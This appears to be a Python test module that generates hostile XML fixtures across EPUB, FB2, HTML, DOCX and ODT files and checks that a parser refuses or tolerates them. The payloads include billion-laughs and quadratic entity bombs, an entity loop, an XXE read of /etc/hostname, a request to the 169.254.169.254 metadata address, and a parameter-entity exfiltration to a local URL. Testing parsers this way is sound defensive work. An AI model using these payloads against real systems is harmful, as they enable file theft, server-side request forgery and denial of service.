"""Entities that grow, fetch or read, in every kind of file that has any."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.text.epub_maker import Line, navigation, ncx, package, xhtml
from tests.text.formats.office_files import docx, fb2, odt, p
from tests.text.hostile.hostile_archives import PAGES, honest
from tests.text.hostile.hostile_kinds import ALL, Hostile, Outcome

SECRET = "file:///etc/hostname"
LAUGHS = "".join(
    f'<!ENTITY lol{number} "{f"&lol{number - 1};" * 10}">' for number in range(1, 10)
).join(['<!ENTITY lol0 "lol">', ""])
DOCTYPES: dict[str, tuple[str, str, Outcome]] = {
    # name -> what it declares, what stands in the text, what must come of it
    "billion_laughs": (LAUGHS, "&lol9;", "refused"),
    "quadratic_blow_up": (f'<!ENTITY a "{"a" * 1900}">', "&a;" * 100_000, "refused"),
    "long_entity": (f'<!ENTITY a "{"a" * 200_000}">', "&a;" * 1000, "refused"),
    "external_file": (f'<!ENTITY x SYSTEM "{SECRET}">', "Text &x; here.", "either"),
    "external_address": (
        '<!ENTITY x SYSTEM "http://169.254.169.254/latest">', "Text &x; here.", "either",
    ),
    "parameter_entities": (
        f'<!ENTITY % f SYSTEM "{SECRET}"><!ENTITY % e "<!ENTITY x SYSTEM \'http://127.0.0.1:9/'
        "?%f;'>\">%e;",
        "Text &x; here.", "either",
    ),
    "loop_of_entities": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;", "refused"),
}  # fmt: skip


def _put(text: str, declared: str, inside: str, *, root: str, mark: str = "Text") -> str:
    """A file's XML with a document type, and something in place of a word."""
    declaration, sign, rest = "", "", text
    if text.startswith("<?xml"):
        declaration, sign, rest = text.partition("?>")
    rest = rest.replace("<!DOCTYPE html>", "")
    made = f"{declaration}{sign}<!DOCTYPE {root} [{declared}]>{rest.lstrip()}"
    assert mark in made
    return made.replace(mark, inside, 1)


def _in_package(folder: Path, declared: str, inside: str) -> Path:
    opf = package(PAGES, version=3, metadata="<dc:title>A Book</dc:title>")
    made = _put(opf, declared, inside, root="package", mark="A Book")
    return honest(folder / "book.epub", files={"OEBPS/content.opf": made})


def _in_container(folder: Path, declared: str, inside: str) -> Path:
    from tests.text.epub_maker import CONTAINER

    made = _put(CONTAINER, declared, inside, root="container", mark="{path}")
    return honest(folder / "book.epub", files={"META-INF/container.xml": made})


def _in_ncx(folder: Path, declared: str, inside: str) -> Path:
    made = _put(ncx([Line("One", "c1.xhtml")]), declared, inside, root="ncx", mark="One")
    return honest(folder / "book.epub", version=2, files={"OEBPS/toc.ncx": made})


def _in_navigation(folder: Path, declared: str, inside: str) -> Path:
    made = _put(navigation([Line("One", "c1.xhtml")]), declared, inside, root="html", mark="One")
    return honest(folder / "book.epub", files={"OEBPS/nav.xhtml": made})


def _in_page(folder: Path, declared: str, inside: str) -> Path:
    made = _put(xhtml(PAGES[0]), declared, inside, root="html", mark="It was")
    return honest(folder / "book.epub", files={"OEBPS/c1.xhtml": made})


def _in_fb2(folder: Path, declared: str, inside: str) -> Path:
    path = folder / "book.fb2"
    text = fb2("<section><p>Text</p><p>More of it.</p></section>")
    path.write_text(_put(text, declared, inside, root="FictionBook"), encoding="utf-8")
    return path


def _in_html(folder: Path, declared: str, inside: str) -> Path:
    path = folder / "book.html"
    text = "<html><body><p>Text</p><p>More of it.</p></body></html>"
    path.write_text(_put(text, declared, inside, root="html"), encoding="utf-8")
    return path


def _in_member(path: Path, member: str, declared: str, inside: str, root: str) -> Path:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    text = members[member].decode()
    members[member] = _put(text, declared, inside, root=root).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _in_docx(folder: Path, declared: str, inside: str) -> Path:
    path = docx(folder / "book.docx", p("Text") + p("More of it."))
    return _in_member(path, "word/document.xml", declared, inside, "w:document")


def _in_odt(folder: Path, declared: str, inside: str) -> Path:
    path = odt(folder / "book.odt", "<text:p>Text</text:p><text:p>More of it.</text:p>")
    return _in_member(path, "content.xml", declared, inside, "office:document-content")


Put = Callable[[Path, str, str], Path]
PLACES: dict[str, Put] = {
    "package": _in_package, "container": _in_container, "ncx": _in_ncx,
    "navigation": _in_navigation, "page": _in_page, "fb2": _in_fb2, "html": _in_html,
    "docx": _in_docx, "odt": _in_odt,
}  # fmt: skip


def _made(put: Put, declared: str, inside: str, folder: Path) -> Path:
    return put(folder, declared, inside)


def _listed() -> None:
    for kind, (declared, inside, outcome) in DOCTYPES.items():
        for place, put in PLACES.items():
            name = f"{kind}_in_{place}"

            # A table of contents or a page that is refused may be left out of a book that is read.
            loose = place in ("ncx", "navigation", "container")
            ALL[name] = Hostile(
                name, partial(_made, put, declared, inside), "either" if loose else outcome
            )


_listed()
